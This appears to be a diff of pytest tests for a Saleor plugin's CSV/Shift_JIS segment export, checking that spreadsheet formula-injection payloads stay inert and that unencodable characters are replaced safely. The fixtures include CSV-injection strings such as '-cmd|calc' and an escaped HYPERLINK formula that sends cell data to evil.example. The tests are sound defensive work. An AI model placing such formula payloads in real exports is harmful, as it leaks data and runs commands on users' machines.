@@ -61,9 +61,16 @@ def hostile_shop():
         rfm_segment="-cmd|calc", cpm_cell="@x", stage="+x")
 
 
-def _rows(response) -> list[dict]:
+def _rows(response, encoding: str = "utf-8-sig") -> list[dict]:
+    """The export decoded as Excel would: UTF-8 after its BOM, or Shift_JIS (CP932)."""
     assert response.status_code == 200, response.content
-    body = b"".join(response.streaming_content).decode()
+    raw = b"".join(response.streaming_content)
+    if encoding == "utf-8-sig":
+        assert raw.startswith(b"\xef\xbb\xbf") and response["Content-Type"] == "text/csv; charset=utf-8"
+        body = raw[3:].decode("utf-8")
+    else:
+        assert response["Content-Type"] == "text/csv; charset=shift_jis"
+        body = raw.decode("cp932")
     return list(csv.DictReader(io.StringIO(body, newline="")))
 
 
@@ -129,3 +136,47 @@ def test_json_export_keeps_names_as_they_are(hostile_shop, key_for):
     response = Client(HTTP_AUTHORIZATION=f"Bearer {token}").get(BASE + "segments/export", {"format": "json"})
     names = {json.loads(line)["name"] for line in b"".join(response.streaming_content).decode().splitlines()}
     assert set(PAYLOADS) <= names and "\t=1+1" in names
+
+
+@pytest.mark.parametrize("encoding", ["utf-8-sig", "shift_jis"])
+def test_both_encodings_decode_back_to_the_same_inert_cells(hostile_shop, csv_path, key_for, encoding):
+    """Excel in Japan opens either file: the rows decode back, the formulas stay inert."""
+    token = key_for()
+    rows = _rows(Client(HTTP_AUTHORIZATION=f"Bearer {token}").get(
+        BASE + "segments/export", {"format": "csv", "encoding": encoding}), encoding)
+    _check(rows)
+    assert any(row["name"] == "'=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"詳細\")" for row in rows)
+
+
+# cp932 holds ①, ㈱ and 髙 (NEC/IBM extensions) but not emoji, 𠮷 or Hangul; NFKC would turn
+# the superscript ⁼ into "=" — a formula — so that one must become 〓, as must those with no
+# compatibility form; Ⅻ (not in cp932) becomes its NFKC form XII.
+SJIS_NAMES = {"髙橋商店①㈱": "髙橋商店①㈱", "🍵お茶の𠮷野": "〓お茶の〓野", "⁼1+1": "〓1+1", "한글상사": "〓〓〓〓",
+              "ｶﾀｶﾅ商会": "ｶﾀｶﾅ商会", "Ⅻ工房": "XII工房"}  # cp932 has Ⅰ…Ⅹ only: Ⅻ falls back to NFKC
+
+
+def test_shift_jis_export_replaces_what_it_cannot_encode_visibly_and_never_into_a_formula(
+        hostile_shop, csv_path, key_for):
+    for account, name in zip(Account.objects.order_by("pk"), SJIS_NAMES):
+        Account.objects.filter(pk=account.pk).update(display_name=name)
+    token = key_for()
+    rows = _rows(Client(HTTP_AUTHORIZATION=f"Bearer {token}").get(
+        BASE + "segments/export", {"format": "csv", "encoding": "shift_jis"}), "shift_jis")
+    names = {row["name"] for row in rows}
+    for name, written in SJIS_NAMES.items():
+        assert written in names, (name, sorted(names))
+    assert not any(cell.startswith(ACTIVE_STARTS) for row in rows for cell in row.values()
+                   if not cell.lstrip("-").replace(".", "", 1).isdigit())
+
+
+def test_an_unknown_encoding_is_refused(key_for):
+    response = Client(HTTP_AUTHORIZATION=f"Bearer {key_for()}").get(BASE + "segments/export", {"encoding": "latin-1"})
+    assert response.status_code == 422 and response.json()["errors"][0]["field"] == "encoding"
+
+
+def test_a_multibyte_character_split_across_chunks_survives_shift_jis():
+    from saleor_ltv_plugin.api.spreadsheet_encoding import reencode
+
+    text = "株式会社山田製作所,髙橋\n".encode()
+    pieces = [text[i:i + 1] for i in range(len(text))]  # every character split between chunks
+    assert b"".join(reencode(pieces, "shift_jis")).decode("cp932") == "株式会社山田製作所,髙橋\n"
